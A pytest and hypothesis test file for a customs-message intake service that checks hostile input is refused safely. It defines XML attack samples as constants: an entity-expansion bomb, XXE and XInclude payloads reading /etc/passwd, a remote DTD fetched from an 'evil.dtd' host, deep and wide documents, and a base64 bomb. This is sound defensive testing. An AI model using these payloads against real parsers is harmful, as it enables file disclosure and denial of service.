"""Hostile input through the whole intake path (恶意报文): envelope, codec, signature, rules, store.

Whatever bytes arrive, ``ingest_message`` answers: the message is processed (its documents accepted or
refused with receipts) or refused as a whole with a format receipt (CEB900) that renders; it never raises,
never expands entities or fetches anything, and stays within time and memory bounds. The codec-level
properties live in tests/unit/messages; these add the envelope, the signature check and the database.
"""

from __future__ import annotations

import base64
import re
import time
from datetime import datetime
from pathlib import Path
from xml.sax.saxutils import escape

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from cbec.common.clock import SHANGHAI
from cbec.demo.builders import build_message
from cbec.intake import IngestResult, ingest_message
from cbec.messages import render_format_receipt, render_message, render_receipts, seal_envelope
from cbec.messages.signature import sign_document
from tests.builders import PARTIES, a_set
from tests.zone import Zone

OUTCOMES = {"processed", "duplicate", "format_error", "signature_error"}
HOSTILE = settings(
    max_examples=60,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
LEAF = re.compile(rb">([^<>]+)</ceb:")
CEB = 'xmlns:ceb="http://www.chinaport.gov.cn/ceb"'
BOMB = (
    b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
    b'<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]>'
    + f'<ceb:CEB311Message {CEB} guid="x" version="1.0">&d;&d;&d;&d;</ceb:CEB311Message>'.encode()
)
XXE = (
    b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    + f'<ceb:CEB311Message {CEB} guid="x" version="1.0">&x;</ceb:CEB311Message>'.encode()
)
REMOTE_DTD = (
    b'<?xml version="1.0"?><!DOCTYPE r SYSTEM "http://203.0.113.9/evil.dtd">'
    + f'<ceb:CEB311Message {CEB} guid="x" version="1.0"/>'.encode()
)
XINCLUDE = (
    f'<ceb:CEB311Message {CEB} xmlns:xi="http://www.w3.org/2001/XInclude" guid="x" version="1.0">'
    '<xi:include href="file:///etc/passwd" parse="text"/></ceb:CEB311Message>'
).encode()
UTF16_DTD = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE r [<!ENTITY x "y">]><r>&x;</r>'.encode("utf-16")
WIDE = f'<ceb:CEB311Message {CEB} guid="x" version="1.0">'.encode() + b"<a/>" * 400_000 + b"</ceb:CEB311Message>"
DEEP = b"<a>" * 100_000 + b"</a>" * 100_000


def _order_message(zone: Zone) -> bytes:
    return sign_document(render_message(build_message([a_set().order], PARTIES.ecommerce)), zone.signer)


def _envelope(payload: bytes) -> bytes:
    at = datetime(2026, 3, 2, 9, 0, tzinfo=SHANGHAI)
    return seal_envelope(payload, message_type="CEB411Message", sender_id=PARTIES.payment.dxp_id, created_at=at)


def _answered(result: IngestResult) -> None:
    """The platform answered in one of its ways, and what it answers renders as CEB XML."""
    assert result.outcome in OUTCOMES
    if result.outcome in ("format_error", "signature_error") and result.format_receipt is not None:
        assert render_format_receipt(result.format_receipt).startswith(b"<?xml")
        assert result.problems
    by_type: dict[str, list[object]] = {}
    for receipt in result.receipts:
        by_type.setdefault(receipt.message_type.value, []).append(receipt)
    for receipts in by_type.values():
        render_receipts(receipts)  # type: ignore[arg-type]


@HOSTILE
@given(data=st.binary(max_size=4000))
def test_random_bytes_get_a_format_receipt(zone: Zone, data: bytes) -> None:
    result = ingest_message(zone.ctx, data, dry_run=True)
    _answered(result)
    assert result.outcome == "format_error"


@HOSTILE
@given(start=st.integers(0, 10_000), length=st.integers(0, 60), junk=st.binary(max_size=60), wrap=st.booleans())
def test_damaged_signed_messages_and_envelopes_are_answered(
    zone: Zone, start: int, length: int, junk: bytes, wrap: bool
) -> None:
    valid = _order_message(zone)
    if wrap:
        valid = _envelope(valid)
    position = start % (len(valid) + 1)
    _answered(ingest_message(zone.ctx, valid[:position] + junk + valid[position + length :], dry_run=True))


@HOSTILE
@given(field=st.integers(0, 200), value=st.text(max_size=300), commit=st.booleans())
def test_any_field_value_re_signed_is_answered_and_stored_safely(
    zone: Zone, field: int, value: str, commit: bool
) -> None:
    """Well-formed, correctly signed messages with any text in any field reach the rules and the store."""
    documents = [a_set(f"ORDHOSTILE{field:04d}").order, a_set(f"ORDHOSTILE{field + 1:04d}").order]
    xml = render_message(build_message(documents, PARTIES.ecommerce))
    leaves = list(LEAF.finditer(xml))
    leaf = leaves[field % len(leaves)]
    text = escape("".join(c for c in value if c.isprintable() or c in "\t\n")).encode()
    mutated = xml[: leaf.start(1)] + text + xml[leaf.end(1) :]
    _answered(ingest_message(zone.ctx, sign_document(mutated, zone.signer), dry_run=not commit))


@HOSTILE
@given(payload=st.binary(min_size=1, max_size=2000))
def test_envelopes_with_any_payload_are_answered(zone: Zone, payload: bytes) -> None:
    _answered(ingest_message(zone.ctx, _envelope(payload), dry_run=True))


@HOSTILE
@given(data=st.text(alphabet="ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/=", max_size=400))
def test_envelopes_with_broken_base64_are_answered(zone: Zone, data: str) -> None:
    envelope = _envelope(b"<x/>")
    broken = re.sub(rb"<dxp:Data>[^<]*</dxp:Data>", f"<dxp:Data>{data}</dxp:Data>".encode(), envelope)
    _answered(ingest_message(zone.ctx, broken, dry_run=True))


@pytest.mark.parametrize(
    "data",
    [BOMB, XXE, REMOTE_DTD, XINCLUDE, UTF16_DTD, WIDE, DEEP],
    ids=["entity-bomb", "external-entity", "remote-dtd", "xinclude", "utf16-dtd", "400k-elements", "deep"],
)
@pytest.mark.parametrize("wrapped", [False, True], ids=["bare", "in-envelope"])
def test_bombs_and_external_references_are_refused_fast_and_small(zone: Zone, data: bytes, wrapped: bool) -> None:
    message = _envelope(data) if wrapped else data
    before = _peak_reset()
    started = time.perf_counter()
    result = ingest_message(zone.ctx, message)
    elapsed = time.perf_counter() - started
    grown = _peak() - before if before is not None else 0
    _answered(result)
    assert result.outcome == "format_error"
    assert result.documents == [] and result.receipts == []
    assert b"root:" not in render_format_receipt(result.format_receipt)  # type: ignore[arg-type]
    assert elapsed < 10  # no hang (generous: the machine may be busy)
    assert grown < 64 * 1024 + 8 * len(message) // 1024  # KiB: no expansion, a few times the input at most


def _peak() -> int:
    """Return this process's peak resident set (KiB)."""
    for line in Path("/proc/self/status").read_text().splitlines():
        if line.startswith("VmHWM:"):
            return int(line.split()[1])
    return 0


def _peak_reset() -> int | None:
    """Reset the peak resident set to the current one (Linux); return it, or None where that is not possible."""
    try:
        Path("/proc/self/clear_refs").write_text("5")
    except OSError:
        return None
    return _peak()


def test_a_base64_bomb_in_an_envelope_is_refused(zone: Zone) -> None:
    """An envelope whose payload is declared small but decodes to more than the size limit."""
    limit = zone.ctx.settings.max_message_bytes
    huge = base64.b64encode(b"<" * (limit + 1024)).decode()
    envelope = re.sub(rb"<dxp:Data>[^<]*</dxp:Data>", f"<dxp:Data>{huge}</dxp:Data>".encode(), _envelope(b"<x/>"))
    result = ingest_message(zone.ctx, envelope)
    _answered(result)
    assert result.outcome == "format_error"


def test_an_envelope_cut_short_is_refused_once_with_the_xml_problem(zone: Zone) -> None:
    """An envelope is parsed once: one that is not well-formed XML is refused with that XML problem."""
    cut = _envelope(_order_message(zone))[:-40]
    result = ingest_message(zone.ctx, cut, dry_run=True)
    assert result.outcome == "format_error"
    assert [p.rule_id for p in result.problems] == ["FMT-XML"]
    _answered(result)
